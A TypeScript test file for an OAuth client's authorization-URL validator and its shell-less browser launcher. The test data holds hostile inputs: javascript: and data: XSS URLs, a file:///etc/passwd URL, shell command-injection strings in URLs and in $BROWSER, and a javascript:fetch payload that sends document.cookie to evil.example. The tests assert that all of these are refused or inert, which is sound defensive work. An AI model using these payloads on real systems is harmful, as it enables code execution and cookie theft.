/**
 * SECURITY.md "the browser is opened without a shell" and "URLs from metadata are validated
 * before use": `assertOpenableAuthorizationUrl` lets through https, and http only on loopback;
 * `openBrowser` starts `$BROWSER` with an argv (no shell), so shell syntax in the URL arrives as
 * one literal argument and nothing in it runs.
 */
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import {
  AuthorizationFlowError,
  assertOpenableAuthorizationUrl,
  openBrowser,
} from "../../../src/client/index.js";

function refusal(value: string): AuthorizationFlowError {
  try {
    assertOpenableAuthorizationUrl(value);
  } catch (error) {
    expect(error).toBeInstanceOf(AuthorizationFlowError);
    return error as AuthorizationFlowError;
  }
  throw new Error(`${value} was accepted`);
}

describe("assertOpenableAuthorizationUrl", () => {
  it.each([
    "https://as.example/authorize?client_id=c&state=s",
    "https://as.example:8443/oauth/authorize",
    "http://127.0.0.1:8080/authorize",
    "http://localhost:3000/authorize",
    "http://[::1]:3000/authorize",
  ])("accepts %s", (value) => {
    expect(assertOpenableAuthorizationUrl(value).href).toBe(new URL(value).href);
  });

  it.each([
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    "  javascript:alert(1)",
    "\tjavascript:alert(1)",
    "file:///etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "ftp://as.example/authorize",
    "http://as.example/authorize",
    "http://127.0.0.1.nip.io/authorize",
    "http://10.0.0.1/authorize",
    "https://user:secret@as.example/authorize",
    "not a url",
  ])("refuses %j with insecure_url, kind refused", (value) => {
    const error = refusal(value);
    expect(error.code).toBe("insecure_url");
    expect(error.kind).toBe("refused");
    expect(error.step).toBe("user agent (authorization URL check)");
    expect(error.message).not.toContain("secret");
  });
});

describe("openBrowser runs $BROWSER without a shell", () => {
  let dir: string;
  let script: string;
  let argvFile: string;
  let marker: string;
  const saved = { browser: process.env.BROWSER, out: process.env.GATEHOUSE_TEST_ARGV_FILE };

  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), "gatehouse-browser-"));
    script = join(dir, "record-argv.sh");
    argvFile = join(dir, "argv");
    marker = join(dir, "pwned");
    // Writes each argument NUL-terminated, then the count; never evaluates them.
    writeFileSync(
      script,
      `#!/bin/sh\nfor a in "$@"; do printf '%s\\0' "$a" >> "$GATEHOUSE_TEST_ARGV_FILE"; done\nprintf 'argc=%s\\0' "$#" >> "$GATEHOUSE_TEST_ARGV_FILE"\n`,
    );
    chmodSync(script, 0o755);
    process.env.GATEHOUSE_TEST_ARGV_FILE = argvFile;
  });
  afterAll(() => {
    if (saved.browser === undefined) delete process.env.BROWSER;
    else process.env.BROWSER = saved.browser;
    if (saved.out === undefined) delete process.env.GATEHOUSE_TEST_ARGV_FILE;
    else process.env.GATEHOUSE_TEST_ARGV_FILE = saved.out;
    rmSync(dir, { recursive: true, force: true });
  });

  it("a URL with ; $(...) backticks and quotes arrives as one literal argument; nothing is executed", async () => {
    rmSync(argvFile, { force: true });
    process.env.BROWSER = script;
    const hostile =
      `https://as.example/authorize/it's;$(touch%20${marker})` +
      `?state=a;touch ${marker}&x=$(touch ${marker})&y=\`touch ${marker}\`&z="q"&w='q'|touch ${marker}`;
    const expected = new URL(hostile).href;
    // The serialised URL still carries the shell syntax (only spaces and double quotes are encoded).
    for (const fragment of [";", "$(", "`", "'", "|"]) expect(expected).toContain(fragment);

    expect(await openBrowser(hostile)).toBe(true);
    await vi.waitFor(() => expect(readFileSync(argvFile, "utf8")).toContain("argc="));
    const recorded = readFileSync(argvFile, "utf8").split("\0").filter(Boolean);
    expect(recorded).toEqual([expected, "argc=1"]);
    expect(existsSync(marker)).toBe(false);
  });

  it("$BROWSER is a program name, not a command line: shell syntax in it starts nothing", async () => {
    rmSync(argvFile, { force: true });
    process.env.BROWSER = `${script}; touch ${marker}`;
    expect(await openBrowser("https://as.example/authorize")).toBe(false);
    expect(existsSync(marker)).toBe(false);
    expect(existsSync(argvFile)).toBe(false);
  });

  it("an unacceptable URL is refused before anything is started", async () => {
    rmSync(argvFile, { force: true });
    process.env.BROWSER = script;
    await expect(openBrowser(`javascript:fetch('//evil.example/'+document.cookie)`)).rejects.toMatchObject({
      code: "insecure_url",
    });
    await expect(openBrowser("file:///etc/passwd")).rejects.toBeInstanceOf(AuthorizationFlowError);
    expect(existsSync(argvFile)).toBe(false);
  });
});
